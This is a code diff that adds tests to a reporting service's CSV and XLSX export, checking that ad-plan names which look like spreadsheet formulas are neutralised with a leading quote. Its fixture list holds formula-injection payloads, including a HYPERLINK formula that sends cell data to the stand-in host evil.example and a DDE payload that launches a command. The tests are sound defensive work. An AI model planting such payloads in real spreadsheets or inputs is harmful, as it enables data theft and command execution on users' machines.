@@ -18,6 +18,7 @@ import { sql } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { DEMO_ACCOUNTS } from '../../db/seed.js';
+import { buildPlan } from '../../test/ad-factories.js';
 import { createTestApp, type TestApp } from '../../test/app.js';
 import { REPORT_FILE_SAMPLES } from '../../test/samples/report.js';
 import { buildSession, buildUser } from '../../test/factories.js';
@@ -319,6 +320,80 @@ describe('POST /svc/report/export', () => {
       f.dsp.name,
       microsToUnits(supplyIncome),
     ]);
+  });
+});
+
+describe('POST /svc/report/export: names that look like formulas', () => {
+  // OWASP's triggers, as an advertiser could name its plans; and two names left alone.
+  const HOSTILE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(1+1)',
+    '\t=1+1',
+    '\r=1+1',
+  ];
+  const HARMLESS = ['Plain plan', 'a=b+c'];
+  let token: string;
+  let planIds: number[];
+
+  beforeAll(async () => {
+    const user = await buildUser(t.db, { ability: ADVERTISER });
+    token = await buildSession(t.db, user.id);
+    planIds = [];
+    for (const [index, name] of [...HOSTILE, ...HARMLESS].entries()) {
+      const plan = await buildPlan(t.db, user.id, { name });
+      planIds.push(plan.id);
+      await t.db.execute(sql`
+        insert into stats_hourly (hour, advertiser_id, plan_id, app_version, impressions, cost)
+        values ('2025-05-01T10:00:00Z', ${user.id}, ${plan.id}, ${name}, ${index + 1},
+                ${index === 0 ? -1_500_000 : 1_000_000})`);
+    }
+  });
+
+  const view = (format: 'csv' | 'xlsx', dimension: 'plan' | 'app') =>
+    ({
+      dimensions: [dimension],
+      metrics: ['imp', 'cost'],
+      from: '2025-05-01',
+      to: '2025-05-01',
+      sort: 'imp',
+      order: 'asc',
+      format,
+      lang: 'en',
+    }) satisfies ReportExportRequest;
+
+  it('prefixes a single quote in the CSV; a genuine negative amount stays a number', async () => {
+    const response = await exportFile(token, view('csv', 'plan'));
+    const [, ...rows] = parseCsv(response.body.slice(1));
+    expect(rows.slice(0, -1).map((row) => row[1])).toEqual([
+      ...HOSTILE.map((name) => `'${name}`),
+      ...HARMLESS,
+    ]);
+    expect(rows[0]).toEqual([String(planIds[0]), `'${HOSTILE[0]}`, '1', '-1.5']);
+    const app = parseCsv((await exportFile(token, view('csv', 'app'))).body.slice(1));
+    expect(app.slice(1, -1).map((row) => row[0])).toEqual([
+      ...HOSTILE.map((name) => `'${name}`),
+      ...HARMLESS,
+    ]);
+  });
+
+  it('writes the quoted names as text in the .xlsx and amounts as numbers', async () => {
+    const response = await exportFile(token, view('xlsx', 'plan'));
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(
+      response.rawPayload as unknown as Parameters<typeof workbook.xlsx.load>[0],
+    );
+    const values: unknown[][] = [];
+    workbook.worksheets[0]?.eachRow((row) => values.push((row.values as unknown[]).slice(1)));
+    const rows = values.slice(1, -1);
+    // XML reads a raw carriage return back as a line feed.
+    expect(rows.map((row) => row[1])).toEqual([
+      ...HOSTILE.map((name) => `'${name.replace('\r', '\n')}`),
+      ...HARMLESS,
+    ]);
+    expect(rows[0]).toEqual([planIds[0], `'${HOSTILE[0]}`, 1, -1.5]);
+    expect(rows.every((row) => typeof row[1] === 'string')).toBe(true);
   });
 });
 
